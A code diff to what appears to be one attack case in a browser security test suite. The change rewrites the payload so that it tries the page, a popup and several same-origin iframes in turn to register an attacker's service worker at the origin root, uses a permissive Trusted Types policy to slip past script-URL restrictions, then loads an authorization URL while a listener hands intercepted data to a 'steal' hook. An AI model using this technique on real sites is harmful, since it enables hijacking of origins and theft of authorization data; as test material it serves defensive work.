@@ -9,11 +9,47 @@ export default attack({
     navigator.serviceWorker.addEventListener("message", ({ data }) => it.steal(data));
     navigator.serviceWorker.startMessages();
   },
+  // From the page, and from every document of the origin that the page can get hold of.
   async payload(it) {
-    const registration = await navigator.serviceWorker.register(it.scriptUrl("/worker-of-the-attacker.js"), {
-      scope: "/",
-    });
-    while (!registration.active?.scriptURL.endsWith("/worker-of-the-attacker.js")) await it.pause(50);
+    const script = "/worker-of-the-attacker.js";
+    const popup = window.open("/config.json");
+    const frames = [
+      "/empty.html",
+      "/config.json",
+      "/vault-worker.js",
+      "/auth/x",
+      "/api/v1/echo",
+      "about:blank",
+    ].map((src) => Object.assign(document.createElement("iframe"), { src }));
+    document.body.append(...frames);
+    await Promise.race([
+      it.pause(2_000),
+      Promise.all(frames.map((frame) => new Promise((loaded) => frame.addEventListener("load", loaded)))),
+    ]);
+    let registered = false;
+    for (const place of [window, popup, ...frames.map((frame) => frame.contentWindow)]) {
+      try {
+        const { navigator, trustedTypes } = place as unknown as typeof globalThis & {
+          trustedTypes?: {
+            createPolicy(name: string, rules: object): { createScriptURL(url: string): string };
+          };
+        };
+        let url = it.scriptUrl(script);
+        if (place !== window) {
+          const rules = { createScriptURL: (text: string) => text };
+          url = trustedTypes?.createPolicy("strongroom", rules).createScriptURL(script) ?? script;
+        }
+        await navigator.serviceWorker.register(url, { scope: "/" });
+        registered = true;
+        break;
+      } catch {
+        // The next one.
+      }
+    }
+    popup?.close();
+    if (!registered) return;
+    const registration = await navigator.serviceWorker.getRegistration("/");
+    while (!registration?.active?.scriptURL.endsWith(script)) await it.pause(50);
     const frame = document.createElement("iframe");
     frame.src = it.authorizationUrl();
     document.body.append(frame);
